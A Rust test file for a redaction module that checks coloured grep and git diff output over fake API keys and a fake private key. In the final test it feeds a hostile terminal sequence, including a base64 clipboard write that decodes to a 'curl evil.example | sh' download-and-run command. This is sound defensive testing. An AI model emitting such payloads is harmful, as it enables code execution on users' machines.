//! Colour must not defeat redaction: the real bytes of `grep --color=always` and
//! `git diff --no-index --word-diff=color` over files of fake keys, run in a temporary
//! folder, go through `Redactor::strip_redact_then_truncate` (what the terminal server does to
//! every command's output). No key survives, and no escape byte is left.

use std::path::Path;
use std::process::Command;

use safety::redact::{
    CAPTURE_MARGIN, Captured, RedactionSettings, Redactor, Truncated, strip_terminal_controls,
};

/// Fake keys, each one word on its line (so colour lands right before its anchor), with the
/// part of each that must never be shown.
const KEYS: &[(&str, &str)] = &[
    (
        "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d",
        "u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d",
    ),
    ("AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
    (
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        "eyJzdWIiOiIxMjM0NTY3ODkwIn0",
    ),
    (
        "sk-ant-api03-LDpgyyjVw5HanSBeVRsfAGeAbP0VxNjAe-9i0mYtluYI0KN1gNT11cUzYZAa3u2olZU6uqbgsYlVvsSKuvinX_zMqf9OgAA",
        "LDpgyyjVw5HanSBeVRsfAGeAbP0VxNjAe",
    ),
    (
        "xoxb-965724920868-2889093100251-y1CJdObOIRpFqaDZeV7G5IfQ",
        "y1CJdObOIRpFqaDZeV7G5IfQ",
    ),
    ("glpat-xNbe3nNyjOq9wMxEhh2F", "xNbe3nNyjOq9wMxEhh2F"),
];

const PEM: &str = "-----BEGIN RSA PRIVATE KEY-----\n\
MIIEowIBAAKCAQEA7V21jxUdcfQm9seB1qRmUR8AK3R2GgLLT\n\
ZQISApQyOMqlfZZgZMnafy8hWskBf6wmxe1mbVrNHMx1eOc3g\n\
-----END RSA PRIVATE KEY-----\n";
const PEM_SECRETS: &[&str] = &[
    "MIIEowIBAAKCAQEA7V21jxUdcfQm9seB1qRmUR8AK3R2GgLLT",
    "ZQISApQyOMqlfZZgZMnafy8hWskBf6wmxe1mbVrNHMx1eOc3g",
];

fn redactor() -> Redactor {
    Redactor::new(&RedactionSettings::default()).unwrap()
}

/// The keys file: each key alone, after a label, and after `token=`.
fn keys_file(variant: &str) -> String {
    let mut text = String::new();
    for (key, _) in KEYS {
        text.push_str(&format!("{key}\nlabel: {key} {variant}\ntoken={key}\n"));
    }
    text.push_str(PEM);
    text
}

fn run(dir: &Path, program: &str, args: &[&str]) -> Vec<u8> {
    let out = Command::new(program)
        .args(args)
        .current_dir(dir)
        .env_remove("GREP_COLORS")
        .env_remove("GREP_COLOR")
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("TERM", "xterm-256color")
        .output()
        .unwrap_or_else(|e| panic!("{program} does not run: {e}"));
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{program} {args:?}: {:?} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// What the executor captures of a stream: head and tail, each `cap + CAPTURE_MARGIN` at most.
fn capture(bytes: &[u8], cap: usize) -> Captured {
    let keep = cap + CAPTURE_MARGIN;
    if bytes.len() <= 2 * keep {
        let (head, tail) = bytes.split_at(bytes.len().min(keep));
        return Captured {
            head: head.to_vec(),
            tail: tail.to_vec(),
            total: bytes.len() as u64,
        };
    }
    Captured {
        head: bytes[..keep].to_vec(),
        tail: bytes[bytes.len() - keep..].to_vec(),
        total: bytes.len() as u64,
    }
}

fn assert_clean(what: &str, raw: &[u8], out: &Truncated, secrets: &[&str]) {
    assert_no_leak(what, raw, out, secrets);
    // Where the output holds a key (once its escapes are gone), something was redacted.
    let plain = String::from_utf8_lossy(&strip_terminal_controls(raw)).into_owned();
    if secrets.iter().any(|s| plain.contains(s)) {
        assert!(
            out.text.contains("[REDACTED:"),
            "{what}: nothing was redacted: {}",
            out.text
        );
    }
}

fn assert_no_leak(what: &str, raw: &[u8], out: &Truncated, secrets: &[&str]) {
    // The input really is the attack: escapes are there, and so is each key.
    assert!(raw.contains(&0x1b), "{what}: no escape in the raw output");
    let text = &out.text;
    assert!(!text.contains('\x1b'), "{what}: an ESC survived: {text:?}");
    assert!(
        !text.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
        "{what}: a C1 control survived: {text:?}"
    );
    for secret in secrets {
        assert!(
            !text.contains(secret),
            "{what}: '{secret}' survived in {text}"
        );
    }
}

fn all_secrets() -> Vec<&'static str> {
    KEYS.iter()
        .map(|(_, s)| *s)
        .chain(PEM_SECRETS.iter().copied())
        .collect()
}

#[test]
fn grep_color_always_output_leaks_no_key() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("keys.txt"), keys_file("one")).unwrap();
    let r = redactor();
    let secrets = all_secrets();
    let patterns = [
        // The whole key coloured: the SGR's `m` lands right before the anchor.
        r"ghp_[A-Za-z0-9]*|AKIA[A-Z0-9]*|eyJ[A-Za-z0-9._-]*|sk-ant-[A-Za-z0-9_-]*|xoxb-[0-9A-Za-z-]*|glpat-[A-Za-z0-9_-]*|PRIVATE",
        // Only the anchor coloured: the key is split in two by escapes.
        r"ghp_|AKIA|eyJ|sk-ant|xoxb|glpat|MII|ZQIS|BEGIN",
    ];
    for pattern in patterns {
        for extra in [&[][..], &["-o"][..], &["-n"][..]] {
            let mut args = vec!["--color=always"];
            args.extend_from_slice(extra);
            args.extend_from_slice(&["-E", pattern, "keys.txt"]);
            let raw = run(dir.path(), "grep", &args);
            let lossy = String::from_utf8_lossy(&raw);
            assert!(
                lossy.contains("\x1b[01;31m\x1b[Kghp_"),
                "grep did not colour the key: {lossy:?}"
            );
            let out = r.strip_redact_then_truncate(&capture(&raw, 1 << 20), 1 << 20);
            assert_clean(&format!("grep {args:?}"), &raw, &out, &secrets);
            // The escape is gone and the text around it stays.
            if extra.is_empty() {
                assert!(lossy.contains(KEYS[0].1), "grep printed no key: {lossy:?}");
                assert!(out.text.contains("label: [REDACTED:"), "{}", out.text);
            }
        }
    }
}

#[test]
fn grep_color_always_output_cut_by_truncation_leaks_no_key() {
    // Long output: head and tail captured, the middle not; the cut falls anywhere.
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::new();
    for i in 0..400 {
        text.push_str(&keys_file(&i.to_string()));
    }
    std::fs::write(dir.path().join("keys.txt"), &text).unwrap();
    let raw = run(
        dir.path(),
        "grep",
        &[
            "--color=always",
            "-E",
            "ghp_|AKIA|eyJ|sk-ant|xoxb|glpat|MII|ZQIS|PRIVATE",
            "keys.txt",
        ],
    );
    let r = redactor();
    let secrets = all_secrets();
    for cap in [1000, 4096, 10_000, 30_000, 65_536] {
        let captured = capture(&raw, cap);
        assert!((captured.head.len() + captured.tail.len()) < raw.len());
        let out = r.strip_redact_then_truncate(&captured, cap);
        let what = format!("grep cut at {cap}");
        // With a small cap the stripped head can be shorter than the margin that is never
        // shown (docs/redaction.md): nothing leaks, and less is shown.
        if cap >= 10_000 {
            assert_clean(&what, &raw, &out, &secrets);
        } else {
            assert_no_leak(&what, &raw, &out, &secrets);
        }
        assert!(out.omitted_bytes > 0);
        assert!(out.text.len() <= cap + 100, "{} > {cap}", out.text.len());
    }
}

#[test]
fn git_word_diff_color_output_leaks_no_key() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("old.txt"), keys_file("old")).unwrap();
    // Every key changed: the word diff shows both, each coloured.
    let changed: String = keys_file("new")
        .lines()
        .map(|l| {
            if l.starts_with("-----") {
                l.to_string()
            } else {
                format!("{l} v2")
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    std::fs::write(dir.path().join("new.txt"), changed).unwrap();
    let raw = run(
        dir.path(),
        "git",
        &[
            "diff",
            "--no-index",
            "--word-diff=color",
            "old.txt",
            "new.txt",
        ],
    );
    let lossy = String::from_utf8_lossy(&raw);
    assert!(lossy.contains("\x1b["), "git did not colour: {lossy:?}");
    let r = redactor();
    let out = r.strip_redact_then_truncate(&capture(&raw, 1 << 20), 1 << 20);
    assert_clean("git diff --word-diff=color", &raw, &out, &all_secrets());
    // Plain `git diff --color=always` too.
    let raw = run(
        dir.path(),
        "git",
        &["diff", "--no-index", "--color=always", "old.txt", "new.txt"],
    );
    let out = r.strip_redact_then_truncate(&capture(&raw, 1 << 20), 1 << 20);
    assert_clean("git diff --color=always", &raw, &out, &all_secrets());
}

#[test]
fn hyperlinks_titles_and_clipboard_writes_never_reach_the_client() {
    let r = redactor();
    let raw = b"\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ \x1b]0;owned\x07\
\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\xc2\x9b2J\xc2\x9d0;t\xc2\x9cdone\n"
        .to_vec();
    let out = r.strip_redact_then_truncate(&capture(&raw, 4096), 4096);
    assert_eq!(out.text, "docs done\n");
    // Redaction off: escapes are still removed (they are a terminal hazard, not a secret).
    let off = Redactor::new(&RedactionSettings {
        enabled: false,
        ..RedactionSettings::default()
    })
    .unwrap();
    assert_eq!(
        off.strip_redact_then_truncate(&capture(&raw, 4096), 4096)
            .text,
        "docs done\n"
    );
}
